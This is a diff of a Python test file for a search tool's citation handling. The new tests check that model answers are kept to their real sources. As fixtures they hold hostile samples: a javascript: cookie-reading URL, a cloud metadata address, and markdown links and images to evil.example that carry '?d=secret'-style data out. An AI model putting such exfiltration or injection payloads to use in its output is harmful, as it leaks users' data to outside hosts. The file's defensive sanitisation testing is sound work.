@@ -7,8 +7,9 @@ import pytest
 from gatewise.config import load_settings
 from gatewise.errors import ErrorCode, GatewiseError
 from gatewise.search.citations import (
-    drop_unknown_refs,
+    Citation,
     from_annotations,
+    keep_to_sources,
     normalise_refs,
     normalise_url,
     sources_markdown,
@@ -44,7 +45,8 @@ def test_citations_are_numbered_by_first_use_and_deduplicated() -> None:
              note("https://c.org/z", title="Unanchored"),
              {"type": "file_citation", "file_citation": {"file_id": "f"}},
              note("https://d.org", start_index=5, end_index=999)]
-    cites = from_annotations(answer, notes)
+    cites, unusable = from_annotations(answer, notes)
+    assert unusable == 0
     assert [(c.number, c.url) for c in cites] == [
         (1, "https://a.org/x"), (2, "https://b.org/y"), (3, "https://c.org/z"), (4, "https://d.org")]
     first = cites[0]
@@ -56,7 +58,7 @@ def test_citations_are_numbered_by_first_use_and_deduplicated() -> None:
 
 def test_markdown_refs_match_the_numbers() -> None:
     answer = "Alpha is true [a.org](https://a.org/x). Beta holds as well."
-    cites = from_annotations(answer, [
+    cites, _ = from_annotations(answer, [
         note("https://a.org/x", answer, "[a.org](https://a.org/x)", title="A [draft]"),
         note("https://b.org/y", answer, "Beta holds", title="B")])
     text = with_refs(answer, cites)
@@ -67,7 +69,7 @@ def test_markdown_refs_match_the_numbers() -> None:
 
 def test_sources_without_spans_are_anchored_at_their_links() -> None:
     answer = "See [the docs](https://a.org/x) and [again](https://A.org/x/?utm_source=feed)."
-    (cite,) = from_annotations(answer, [note("https://a.org/x", title="A")])
+    (cite,), _ = from_annotations(answer, [note("https://a.org/x", title="A")])
     assert [answer[s.start:s.end] for s in cite.spans] == [
         "[the docs](https://a.org/x)", "[again](https://A.org/x/?utm_source=feed)"]
     assert with_refs(answer, [cite]) == "See [[1]](https://a.org/x) and [[1]](https://a.org/x)."
@@ -75,8 +77,8 @@ def test_sources_without_spans_are_anchored_at_their_links() -> None:
 
 def test_sources_outside_the_domain_filter_are_dropped_and_the_rest_renumbered() -> None:
     answer = "One [a](https://blog.a.org/1). Two [b](https://b.org/2). Three [c](https://a.org/3)."
-    cites = from_annotations(answer, [note(u) for u in ("https://blog.a.org/1", "https://b.org/2",
-                                                        "https://a.org/3")])
+    cites, _ = from_annotations(answer, [note(u) for u in ("https://blog.a.org/1", "https://b.org/2",
+                                                           "https://a.org/3")])
     kept, dropped = within_domains(cites, ["a.org"], ["*.a.org"])
     assert [(c.number, c.url) for c in kept] == [(1, "https://a.org/3")]
     assert [c.url for c in dropped] == ["https://blog.a.org/1", "https://b.org/2"]
@@ -89,7 +91,9 @@ def test_grouped_references_are_split() -> None:
 
 
 def test_reference_checks() -> None:
-    assert drop_unknown_refs("One [1]. Two [4]. Zero [0].", 2) == ("One [1]. Two. Zero.", [4, 0])
+    sources = [Citation(number=n, url=f"https://s{n}.org/") for n in (1, 2)]
+    kept = keep_to_sources("One [1]. Two [4]. Zero [0].", sources)
+    assert (kept.text, kept.unknown_refs) == ("One [1]. Two. Zero.", [4, 0])
     text = "Python 3.14 adds free threading. [1] Rates rose 3.5 percent this year [2]. Nobody cites this one."
     assert uncited_sentences(text) == ["Nobody cites this one."]
     assert normalise_url("HTTPS://Example.com/a/?b=1&utm_medium=x#frag") == "https://example.com/a?b=1"
@@ -168,3 +172,48 @@ def test_planning_splits_lists_comparisons_and_questions() -> None:
 def test_search_settings_from_the_environment() -> None:
     settings = load_settings({"GATEWISE_SEARCH_MODEL": "claude-haiku-4.5"})
     assert settings.search.default_model == "claude-haiku-4.5" and settings.search.max_results == 5
+
+
+def test_only_public_http_links_become_sources_and_titles_are_cut() -> None:
+    notes = [note("javascript:alert(document.cookie)", title="js"), note("http://169.254.169.254/latest"),
+             note("https://long.example/" + "a" * 5000), note("ftp://files.example/x"),
+             {"type": "url_citation", "url_citation": {"url": 42}},
+             note("https://ok.example/page", title="T " * 5000, content="fine")]
+    (cite,), unusable = from_annotations("An answer.", notes)
+    assert unusable == 5 and cite.url == "https://ok.example/page" and cite.snippet == "fine"
+    assert cite.title is not None and len(cite.title) <= 202 and cite.title.endswith("…")
+
+
+def test_made_up_links_images_and_refs_are_kept_to_the_sources() -> None:
+    sources = [Citation(number=1, url="https://a.org/x"), Citation(number=2, url="https://b.org/y")]
+    text = ("Fact [[1]](https://a.org/x) and [the docs](https://A.org/x/?utm_source=z). "
+            "[evil](https://evil.example/steal?d=) [[9]](https://invented.example/x) "
+            "![](https://evil.example/?d=secret) <img src=\"https://evil.example/p.png\"> "
+            "<a href=\"https://evil.example/\">click</a> [wiki](https://w.org/a_(b)) [2] [7]\n"
+            "[ref]: https://evil.example/def\n[1]: https://a.org/x")
+    kept = keep_to_sources(text, sources)
+    assert kept.text == ("Fact [[1]](https://a.org/x) and [the docs](https://A.org/x/?utm_source=z). "
+                         "evil   click</a> wiki [2]\n\n[1]: https://a.org/x")
+    assert (kept.unknown_refs, kept.links, kept.images) == ([9, 7], 5, 2)
+    assert kept.warnings("the markdown answer") == [
+        "removed references to sources that do not exist: [7, 9]",
+        "removed 5 link(s) to pages that are not among the sources (their text stays) and 2 image(s) "
+        "the model wrote into the markdown answer"]
+    assert keep_to_sources("Plain text [1].", sources).warnings() == []
+
+
+def test_a_hostile_answer_is_kept_to_its_sources_in_linear_time() -> None:
+    import time
+
+    hostile = ("[a" * 20_000 + "<a href=" * 20_000 + "<img " * 20_000 + "](" * 20_000) * 2
+    started = time.perf_counter()
+    keep_to_sources(hostile, [])
+    assert time.perf_counter() - started < 2
+
+
+def test_international_domains_are_taken_in_their_ascii_form() -> None:
+    assert clean_domains(["bücher.de", "*.Bücher.de", "https://пример.рф/x"], "include_domains") == (
+        "xn--bcher-kva.de", "*.xn--bcher-kva.de", "xn--e1afmkfd.xn--p1ai")
+    cites = [Citation(number=1, url="https://bücher.de/a"), Citation(number=2, url="https://other.de/")]
+    kept, dropped = within_domains(cites, ["xn--bcher-kva.de"], [])
+    assert [c.url for c in kept] == ["https://bücher.de/a"] and [c.url for c in dropped] == ["https://other.de/"]
